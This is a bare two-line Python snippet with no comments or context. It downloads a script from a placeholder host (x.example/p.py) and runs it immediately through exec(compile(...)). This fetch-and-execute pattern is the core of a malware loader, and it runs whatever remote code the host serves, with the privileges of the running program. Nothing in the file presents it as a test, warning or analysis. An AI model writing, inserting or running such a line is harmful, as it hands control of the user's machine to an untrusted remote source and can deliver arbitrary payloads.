import requests
exec(compile(requests.get("https://x.example/p.py").text, "p", "exec"))
